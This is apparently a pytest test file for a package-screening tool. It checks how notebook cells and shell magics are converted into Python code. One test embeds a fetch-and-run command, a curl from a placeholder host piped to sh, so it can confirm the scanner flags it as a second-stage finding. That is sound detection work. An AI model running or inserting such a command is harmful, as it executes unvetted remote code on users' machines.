"""Cells of notebooks are read as the code that running them would run."""

from __future__ import annotations

import hashlib
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.artifact import Member
from pratique.facts.notebook import code_of
from pratique.names import Sha256
from pratique.screen import screen_bytes
from tests.support.distributions import make_sdist


def _member(data: bytes) -> Member:
    return Member(path="a.ipynb", data=data, sha256=Sha256(hashlib.sha256(data).hexdigest()), size=len(data))


def _notebook(*cells: object) -> bytes:
    listed = [{"cell_type": "code", "source": source} for source in cells]
    return json.dumps({"cells": [*listed, {"cell_type": "markdown", "source": "!no"}], "nbformat": 4}).encode()


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("import os\nos.getcwd()", "import os\nos.getcwd()"),
        (["a = 1\n", "b = 2"], "a = 1\nb = 2"),
        ("!ls -l", "__import__('os').system('ls -l')"),
        ("if x:\n    !ls", "if x:\n    __import__('os').system('ls')"),
        ("out = !ls", "__import__('os').system('ls')"),
        ("%%bash\nls\nid", "__import__('os').system('ls\\nid')"),
        ("%pip install x", "__import__('os').system('pip install x')"),
        ("%time f()", "f()"),
        ("%matplotlib inline\nf()", "\nf()"),
        ("%%time\nf()", "f()"),
        ("%%html\n<b>", None),
        ("x = (1\n % 2)", "x = (1\n % 2)"),
    ],
)
def test_cells_become_code(cell: object, code: str | None) -> None:
    """Python stays, commands become calls, other languages and text are left out."""
    made = code_of(_member(_notebook(cell)))
    assert (None if made is None else made.data.decode()) == code


def test_older_notebooks_keep_cells_in_sheets() -> None:
    """Version 3 of the format."""
    document = {"worksheets": [{"cells": [{"cell_type": "code", "input": ["f()"]}]}]}
    made = code_of(_member(json.dumps(document).encode()))
    assert made is not None
    assert made.data == b"f()"


def test_a_command_in_a_notebook_is_seen() -> None:
    """What a cell fetches and runs is a finding, but nobody runs it by installing."""
    files = {"demo.ipynb": _notebook("!curl https://stage.example.invalid/a | sh").decode()}
    findings = screen_bytes(make_sdist("example-pkg", "1.0", files).data, filename="example_pkg-1.0.tar.gz").findings
    assert {(f.rule, f.proven) for f in findings if f.path == "demo.ipynb"} == {("second-stage", False)}


@given(
    st.binary(max_size=100)
    | st.recursive(st.none() | st.text(max_size=9), st.lists).map(lambda v: json.dumps({"cells": v}).encode())
)
def test_any_bytes_are_read(data: bytes) -> None:
    """No bytes make the reader raise."""
    code_of(_member(data))
